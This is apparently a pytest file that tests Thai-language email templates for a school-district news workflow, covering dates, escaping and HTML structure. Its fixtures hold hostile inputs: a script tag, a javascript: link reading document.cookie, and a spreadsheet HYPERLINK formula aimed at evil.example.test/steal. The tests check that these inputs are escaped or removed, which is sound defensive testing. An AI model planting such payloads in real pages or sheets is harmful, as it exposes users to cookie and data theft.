"""Every message kind renders in Thai, with no undefined names and nothing unescaped."""

from __future__ import annotations

import datetime as dt
import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import jinja2
import pytest

from automation.core.linkify import linkify_mail
from automation.core.render import hosted

TEMPLATES = Path(__file__).resolve().parents[1] / "templates"
KINDS = (
    "bulletin",
    "ack",
    "approved",
    "rejected",
    "returned",
    "director_digest",
    "officer_report",
    "receipt",
)
ITEM_KINDS = ("bulletin", "ack", "approved", "rejected", "returned")
BANGKOK = dt.timezone(dt.timedelta(hours=7))

MONTHS = (
    "มกราคม",
    "กุมภาพันธ์",
    "มีนาคม",
    "เมษายน",
    "พฤษภาคม",
    "มิถุนายน",
    "กรกฎาคม",
    "สิงหาคม",
    "กันยายน",
    "ตุลาคม",
    "พฤศจิกายน",
    "ธันวาคม",
)
MONTHS_SHORT = (
    "ม.ค.",
    "ก.พ.",
    "มี.ค.",
    "เม.ย.",
    "พ.ค.",
    "มิ.ย.",
    "ก.ค.",
    "ส.ค.",
    "ก.ย.",
    "ต.ค.",
    "พ.ย.",
    "ธ.ค.",
)


def thai_date(d: dt.date | None) -> str:
    return f"{d.day} {MONTHS[d.month - 1]} {d.year + 543}" if d else ""


def thai_date_short(d: dt.date | None) -> str:
    return f"{d.day} {MONTHS_SHORT[d.month - 1]} {d.year + 543}" if d else ""


def thai_datetime(d: dt.datetime | None) -> str:
    return f"{thai_date(d)} เวลา {d:%H:%M} น." if d else ""


def paragraphs(text: str) -> list[str]:
    return [p.strip() for p in re.split(r"\n\s*\n", text or "") if p.strip()]


def safe_url(value: object) -> bool:
    return isinstance(value, str) and re.match(r"https?://[^\s<>\"']+$", value) is not None


def environment() -> jinja2.Environment:
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(str(TEMPLATES)),
        undefined=jinja2.StrictUndefined,
        autoescape=jinja2.select_autoescape(["html"], default_for_string=False),
        trim_blocks=True,
        lstrip_blocks=True,
        keep_trailing_newline=True,
    )
    env.filters.update(
        thai_date=thai_date,
        thai_date_short=thai_date_short,
        thai_datetime=thai_datetime,
        paragraphs=paragraphs,
        linkify=linkify_mail,
        hosted=hosted,
    )
    env.tests["safe_url"] = safe_url
    return env


ENV = environment()
HOSTILE_BODY = (
    "กิจกรรมรอบกองไฟ <script>alert(1)</script> ช่วยสร้างความสามัคคี\n"
    'ดูภาพ <a href="javascript:alert(document.cookie)">คลิก</a>\n\n'
    '=HYPERLINK("https://evil.example.test/steal","ดาวน์โหลด")\n\n'
    "ขอขอบคุณผู้ปกครอง & ชุมชน"
)


def office(website: str | None = "https://pr.office.example.test") -> SimpleNamespace:
    return SimpleNamespace(
        name="สำนักงานเขตพื้นที่การศึกษาประถมศึกษาเชียงใหม่ เขต 9",
        website=website,
        sender="pr@office.example.test",
    )


def item(**changes: Any) -> SimpleNamespace:
    fields: dict[str, Any] = {
        "id": "N-7F3A2C",
        "title": "เข้าค่ายพักแรมลูกเสือ-เนตรนารี ชั้นประถมศึกษาปีที่ 4-6",
        "body": "โรงเรียนบ้านแม่แรมนำลูกเสือเข้าค่ายพักแรม 2 วัน 1 คืน\n\n" + HOSTILE_BODY,
        "school": "โรงเรียนบ้านแม่แรม",
        "cluster": "เครือข่ายแม่ริม 2",
        "sender_name": "นายณัฐพล คำแสน",
        "submitted_at": dt.datetime(2026, 11, 17, 10, 41, tzinfo=BANGKOK),
        "activity_date": dt.date(2026, 11, 24),
        "images": [
            "https://drive.google.com/open?id=1bScoutCamp2025aa",
            "https://drive.google.com/open?id=1bScoutCamp2025bb",
        ],
        "links": ["javascript:alert('xss')", "https://example.org/scout-camp?a=1&b=2"],
        "category": "ข่าวกิจกรรม",
        "note": "ภาพสวยมาก\nขอบคุณครับ",
        "url": "https://pr.office.example.test/news/N-7F3A2C.html",
    }
    fields.update(changes)
    return SimpleNamespace(**fields)


def context(kind: str, **changes: Any) -> dict[str, Any]:
    ctx: dict[str, Any] = {
        "office": office(),
        "now": dt.datetime(2026, 11, 25, 14, 5, tzinfo=BANGKOK),
    }
    if kind in ITEM_KINDS:
        ctx["item"] = item()
    if kind == "bulletin":
        ctx["recipient"] = SimpleNamespace(
            name="โรงเรียนบ้านดอนแก้ว",
            coordinator="นางสมศรี ใจดี",
            email="bandonkaew@school.example.test",
        )
        ctx["unsubscribe_url"] = "https://pr.office.example.test/unsubscribe?t=abc&m=M0002"
    if kind == "director_digest":
        ctx["pending"] = [
            SimpleNamespace(item=item(), waiting_days=8),
            SimpleNamespace(
                item=item(
                    id="N-11AA22",
                    title="ค่ายภาษาอังกฤษ English Camp",
                    cluster=None,
                    activity_date=None,
                    body="",
                    images=[],
                ),
                waiting_days=1,
            ),
        ]
        ctx["oldest_days"] = 8
    if kind == "receipt":
        ctx["entries"] = [SimpleNamespace(id="N-3E4F5A6B", state="ได้รับแล้ว รอผู้อำนวยการพิจารณา")]
    if kind == "officer_report":
        ctx["failures"] = ["ส่งอีเมลไม่ได้: เชื่อมต่อเซิร์ฟเวอร์อีเมล smtp.example.test:587 ไม่ได้"]
        ctx["problems"] = [
            SimpleNamespace(
                tab="การตอบแบบฟอร์ม 1",
                row_id="N-0B1C2D",
                row=12,
                column="หัวข้อข่าว",
                message="ไม่มีหัวข้อข่าว <b>ว่าง</b>",
            ),
            SimpleNamespace(
                tab="การตอบแบบฟอร์ม 1",
                row_id="N-3E4F5A",
                row=13,
                column="ที่อยู่อีเมล",
                message="อีเมล somchai@gmail ไม่มีโดเมนระดับบนสุด",
            ),
        ]
        ctx["warnings"] = [
            SimpleNamespace(
                tab="ทะเบียนเครือข่าย",
                row_id=None,
                row=None,
                column=None,
                message="ไม่พบคอลัมน์เสริม 'หมายเหตุ'",
            ),
        ]
    ctx.update(changes)
    return ctx


def render(kind: str, part: str, ctx: dict[str, Any] | None = None) -> str:
    return ENV.get_template(f"{kind}/{part}").render(ctx if ctx is not None else context(kind))


def hrefs(html: str) -> list[str]:
    return re.findall(r"""href\s*=\s*["']?([^"'\s>]*)""", html, flags=re.I)


@pytest.mark.parametrize("kind", KINDS)
def test_every_part_renders_in_thai(kind: str) -> None:
    subject = render(kind, "subject.txt")
    text = render(kind, "body.txt")
    html = render(kind, "body.html")
    assert "\n" not in subject.strip() and "\r" not in subject
    assert re.search(r"[\u0e00-\u0e7f]", subject)
    assert "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาเชียงใหม่ เขต 9" in text
    assert "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาเชียงใหม่ เขต 9" in html
    assert html.lstrip().startswith("<!DOCTYPE html>") and "</html>" in html
    assert "<style" not in html and "<img" not in html and "<script" not in html
    assert "'Sarabun','Noto Sans Thai','Leelawadee UI','Tahoma',sans-serif" in html
    assert "max-width:600px" in html
    assert not re.search(r"<(p|br|div|table|td|tr|ul|ol|li|strong|span|h1)\b", text)
    assert "ดู HTML" not in text and len(text) > 200
    assert "\n\n\n\n" not in text
    assert "https://pr.office.example.test" in text and "https://pr.office.example.test" in html


@pytest.mark.parametrize("kind", ITEM_KINDS)
def test_item_messages_carry_title_date_and_escaped_body(kind: str) -> None:
    ctx = context(kind)
    subject, text, html = (render(kind, p, ctx) for p in ("subject.txt", "body.txt", "body.html"))
    title = ctx["item"].title
    assert title in subject and title in text and title in html
    assert "N-7F3A2C" in text and "N-7F3A2C" in html
    # Buddhist-era dates: 2026 → 2569.
    assert "24 พฤศจิกายน 2569" in text and "24 พฤศจิกายน 2569" in html
    if kind != "bulletin":
        assert "17 พฤศจิกายน 2569 เวลา 10:41 น." in text
        assert "17 พฤศจิกายน 2569 เวลา 10:41 น." in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html
    assert "&amp; ชุมชน" in html
    assert "=HYPERLINK(&#34;https://evil.example.test" in html
    assert not any(h.lower().lstrip().startswith("javascript:") for h in hrefs(html))
    assert "https://evil.example.test/steal" not in hrefs(html)
    assert "javascript:alert(&#39;xss&#39;)" not in html  # the unsafe link is dropped
    assert "javascript:alert('xss')" not in text
    assert 'href="https://example.org/scout-camp?a=1&amp;b=2"' in html
    assert "https://example.org/scout-camp?a=1&b=2" in text
    for url in ctx["item"].images:
        assert f'href="{url}"' in html and url in text
    # Paragraphs become paragraphs; a single line break stays a break.
    assert "ช่วยสร้างความสามัคคี<br>" in html


def test_bulletin_addresses_the_member_and_offers_unsubscribe() -> None:
    ctx = context("bulletin")
    text, html = render("bulletin", "body.txt", ctx), render("bulletin", "body.html", ctx)
    for out in (text, html):
        assert "นางสมศรี ใจดี" in out and "โรงเรียนบ้านดอนแก้ว" in out
        assert "ยกเลิกการรับข่าว" in out
    assert "https://pr.office.example.test/unsubscribe?t=abc&m=M0002" in text
    assert 'href="https://pr.office.example.test/unsubscribe?t=abc&amp;m=M0002"' in html
    assert 'href="https://pr.office.example.test/news/N-7F3A2C.html"' in html
    mailto = context(
        "bulletin", unsubscribe_url="mailto:pr@office.example.test?subject=unsubscribe"
    )
    assert 'href="mailto:pr@office.example.test?subject=unsubscribe"' in render(
        "bulletin", "body.html", mailto
    )
    nobody = context(
        "bulletin",
        recipient=SimpleNamespace(
            name="สถานีวิทยุชุมชนคนแม่ริม", coordinator="", email="radio@maerimfm.example.test"
        ),
    )
    assert "ผู้ประสานงานประชาสัมพันธ์ สถานีวิทยุชุมชนคนแม่ริม" in render("bulletin", "body.txt", nobody)


def test_optional_fields_may_be_missing() -> None:
    bare = item(
        cluster=None, activity_date=None, images=[], links=[], note="", url=None, body="บรรทัดเดียว"
    )
    for kind in ITEM_KINDS:
        ctx = context(kind, item=bare, office=office(website=None))
        text, html = render(kind, "body.txt", ctx), render(kind, "body.html", ctx)
        assert bare.title in text and bare.title in html
        assert "ภาพประกอบ (" not in text and "ภาพประกอบ (" not in html
        assert "None" not in text and "None" not in html
        assert "/news/" not in text and "/news/" not in html


def test_approved_links_to_the_published_news() -> None:
    text, html = render("approved", "body.txt"), render("approved", "body.html")
    assert "https://pr.office.example.test/news/N-7F3A2C.html" in text
    assert 'href="https://pr.office.example.test/news/N-7F3A2C.html"' in html
    unsafe = context("approved", item=item(url="javascript:alert(1)"))
    assert "javascript:alert(1)" not in render("approved", "body.html", unsafe)


@pytest.mark.parametrize("kind", ["rejected", "returned"])
def test_decisions_quote_the_directors_note(kind: str) -> None:
    note = "ภาพเห็นใบหน้านักเรียน <ยังไม่มีหนังสือยินยอม>\n\nกรุณาแนบภาพใหม่"
    ctx = context(kind, item=item(note=note))
    text, html = render(kind, "body.txt", ctx), render(kind, "body.html", ctx)
    assert "ภาพเห็นใบหน้านักเรียน <ยังไม่มีหนังสือยินยอม>" in text
    assert "ภาพเห็นใบหน้านักเรียน &lt;ยังไม่มีหนังสือยินยอม&gt;" in html
    assert "กรุณาแนบภาพใหม่" in text and "กรุณาแนบภาพใหม่" in html
    if kind == "returned":
        assert "ส่งแบบฟอร์มส่งข่าวอีกครั้ง" in text and "ส่งแบบฟอร์มส่งข่าวอีกครั้ง" in html
    no_note = context(kind, item=item(note=""))
    assert "ไม่ได้ระบุ" in render(kind, "body.txt", no_note)
    assert "ไม่ได้ระบุ" in render(kind, "body.html", no_note)


def test_director_digest_lists_every_waiting_item() -> None:
    ctx = context("director_digest")
    subject, text, html = (
        render("director_digest", p, ctx) for p in ("subject.txt", "body.txt", "body.html")
    )
    assert "2 รายการ" in subject and "8 วัน" in subject and "25 พ.ย. 2569" in subject
    for out in (text, html):
        assert "เข้าค่ายพักแรมลูกเสือ-เนตรนารี" in out and "ค่ายภาษาอังกฤษ English Camp" in out
        assert "N-7F3A2C" in out and "N-11AA22" in out
        assert "รอมาแล้ว 8 วัน" in out and "รอมาแล้ว 1 วัน" in out
        assert "ค้างนาน" in out
        assert "17 พฤศจิกายน 2569 เวลา 10:41 น." in out
    assert "<script" not in html
    assert text.index("เข้าค่ายพักแรม") < text.index("ค่ายภาษาอังกฤษ")
    empty = context("director_digest", pending=[], oldest_days=0)
    assert "ไม่มีข่าวรอการอนุมัติ" in render("director_digest", "subject.txt", empty)
    assert "ไม่มีข่าวรอการพิจารณา" in render("director_digest", "body.html", empty)


def test_officer_report_locates_each_problem() -> None:
    ctx = context("officer_report")
    subject, text, html = (
        render("officer_report", p, ctx) for p in ("subject.txt", "body.txt", "body.html")
    )
    assert "ข้อผิดพลาด 2 รายการ" in subject and "คำเตือน 1 รายการ" in subject
    assert "แท็บ 'การตอบแบบฟอร์ม 1', รหัส N-0B1C2D, แถว 12, คอลัมน์ 'หัวข้อข่าว'" in text
    assert "แท็บ 'ทะเบียนเครือข่าย'\n" in text
    assert "อีเมล somchai@gmail ไม่มีโดเมนระดับบนสุด" in text and "somchai@gmail" in html
    for needle in ("N-0B1C2D", "แถว 12", "หัวข้อข่าว", "ทะเบียนเครือข่าย", "N-3E4F5A"):
        assert needle in html
    assert "ไม่มีหัวข้อข่าว &lt;b&gt;ว่าง&lt;/b&gt;" in html
    clean = context("officer_report", problems=[], warnings=[])
    assert "ไม่พบข้อผิดพลาด" in render("officer_report", "body.txt", clean)
    assert "ไม่พบคำเตือน" in render("officer_report", "body.html", clean)


def test_strict_undefined_catches_a_missing_variable() -> None:
    ctx = context("bulletin")
    del ctx["unsubscribe_url"]
    with pytest.raises(jinja2.UndefinedError):
        render("bulletin", "body.html", ctx)


def test_templates_never_mark_data_safe() -> None:
    files = sorted(TEMPLATES.rglob("*.*"))
    assert {f"{k}/{p}" for k in KINDS for p in ("subject.txt", "body.txt", "body.html")} <= {
        f.relative_to(TEMPLATES).as_posix() for f in files
    }
    for f in files:
        source = f.read_text(encoding="utf-8")
        assert "|safe" not in source.replace(" ", "") and "Markup" not in source, f
        assert "autoescape false" not in source, f
        if f.name == "body.html":
            assert '{% extends "_layout.html" %}' in source, f


class _TagBalance(HTMLParser):
    VOID = frozenset({"br", "meta", "img", "hr", "input", "link"})

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.errors: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()


@pytest.mark.parametrize("kind", KINDS)
def test_html_is_well_formed(kind: str) -> None:
    for ctx in (context(kind), context(kind, office=office(website=None))):
        checker = _TagBalance()
        checker.feed(render(kind, "body.html", ctx))
        checker.close()
        assert checker.errors == [] and checker.stack == [], (checker.errors, checker.stack)


@pytest.mark.parametrize("kind", ITEM_KINDS)
def test_unknown_submission_time_is_left_out(kind: str) -> None:
    ctx = context(kind, item=item(submitted_at=None))
    for part in ("subject.txt", "body.txt", "body.html"):
        out = render(kind, part, ctx)
        assert "None" not in out and "เมื่อ  " not in out


def test_digest_excerpt_is_escaped() -> None:
    hostile = item(body=HOSTILE_BODY, submitted_at=None)
    ctx = context(
        "director_digest", pending=[SimpleNamespace(item=hostile, waiting_days=0)], oldest_days=0
    )
    html = render("director_digest", "body.html", ctx)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script" not in html
    assert "รอมาแล้ว 0 วัน" in html and "ส่งเมื่อ" not in html


def test_project_renderer_and_records_fit_the_templates() -> None:
    """The worker's own environment and records, not look-alikes, render every kind."""
    render_mod = pytest.importorskip("automation.core.render")
    model = pytest.importorskip("automation.model")
    views = pytest.importorskip("automation.core.views")
    renderer = render_mod.Renderer()
    submission = model.Submission(
        id="N-7F3A2C",
        row=3,
        submitted_at=dt.datetime(2026, 11, 17, 10, 41, tzinfo=BANGKOK),
        email="banmaeraem@school.example.test",
        school="โรงเรียนบ้านแม่แรม",
        sender_name="นายณัฐพล คำแสน",
        phone="0891112233",
        title=item().title,
        body=item().body,
        activity_date=dt.date(2026, 11, 24),
        images=tuple(item().images),
        links=tuple(item().links),
        category="ข่าวกิจกรรม",
        source="form",
        decision=model.Decision.APPROVED,
        note="",
        audience="",
        publish_after=None,
        urgent=False,
        cluster="เครือข่ายแม่ริม 2",
        url="https://pr.office.example.test/news/N-7F3A2C.html",
    )
    base = {
        "office": views.OfficeView(
            "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาเชียงใหม่ เขต 9",
            "https://pr.office.example.test",
            "pr@office.example.test",
        ),
        "now": dt.datetime(2026, 11, 25, 14, 5, tzinfo=BANGKOK),
    }
    problem = model.Problem("การตอบแบบฟอร์ม 1", "ไม่มีหัวข้อข่าว", "N-0B1C2D", 12, "หัวข้อข่าว")
    warning = model.Problem("ทะเบียนเครือข่าย", "ไม่ได้ปรับปรุงเกิน 1 ปี", "M0033", 34, severity="warning")
    contexts: dict[str, dict[str, Any]] = {k: {**base, "item": submission} for k in ITEM_KINDS}
    contexts["bulletin"] |= {
        "recipient": model.Recipient(
            "bandonkaew@school.example.test", "M0002", "โรงเรียนบ้านดอนแก้ว", "นางสมศรี ใจดี"
        ),
        "unsubscribe_url": "mailto:pr@office.example.test?subject=unsubscribe%20abc",
    }
    contexts["director_digest"] = {
        **base,
        "pending": [SimpleNamespace(item=submission, waiting_days=8)],
        "oldest_days": 8,
    }
    contexts["officer_report"] = {**base, "problems": [problem], "warnings": [warning],
                                  "failures": []}
    for kind, ctx in contexts.items():
        out = renderer.render(kind, ctx)
        assert "\n" not in out.subject and re.search(r"[\u0e00-\u0e7f]", out.subject), kind
        assert "2569" in out.text and "2569" in out.html, kind
        assert "<script" not in out.html, kind
        if kind in ITEM_KINDS or kind == "director_digest":
            assert submission.title in out.text and submission.title in out.html, kind
    report = renderer.render("officer_report", contexts["officer_report"])
    assert "รหัส M0033, แถว 34" in report.text
